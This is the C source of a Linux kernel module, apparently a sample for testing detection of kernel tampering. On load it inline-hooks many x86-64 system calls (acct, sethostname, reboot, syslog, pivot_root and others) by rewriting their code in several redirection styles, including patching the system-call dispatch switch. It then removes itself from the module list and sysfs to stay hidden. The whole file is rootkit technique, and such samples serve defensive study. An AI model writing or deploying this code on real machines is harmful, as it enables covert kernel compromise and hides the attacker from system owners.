/* Jumps into a module that hides, in each of the usual ways. */
#include "tamper_inline.h"

/* The call of `name` within the switch that replaced the table of system calls leads here. */
static int over_the_switch(const char *name)
{
    u8 *code = (u8 *)lookup("x64_sys_call");
    unsigned long to = lookup(name), at;
    size_t i;
    /* The kernel goes by its table. */
    if (code == NULL)
        return 0;
    for (i = 0; i < 16384; i++) {
        u8 changed[5];
        at = (unsigned long)(code + i);
        if ((code[i] != 0xe8 && code[i] != 0xe9) || at + 5 + *(s32 *)(code + i + 1) != to)
            continue;
        poke(code + i, changed, relative(changed, code[i], at, (unsigned long)own));
        return 0;
    }
    return -ENOENT;
}

static int __init begin(void)
{
    int failed = over("__x64_sys_acct", 0, jump);
    /* Behind the five bytes that are ftrace's. */
    failed = failed ?: over("__x64_sys_sethostname", 5, jump);
    failed = failed ?: over("__x64_sys_setdomainname", 0, call);
    failed = failed ?: over("__x64_sys_vhangup", 0, by_stack);
    failed = failed ?: over("__x64_sys_reboot", 0, by_rax);
    failed = failed ?: over("__x64_sys_quotactl", 5, by_r11);
    failed = failed ?: over("__x64_sys_syslog", 0, by_halves);
    failed = failed ?: over("__x64_sys_personality", 0, by_memory);
    failed = failed ?: over("loop:lo_compat_ioctl", 0, jump);
    failed = failed ?: over_the_switch("__x64_sys_pivot_root");
    off_the_list();
    off_sysfs();
    return failed;
}
module_init(begin);
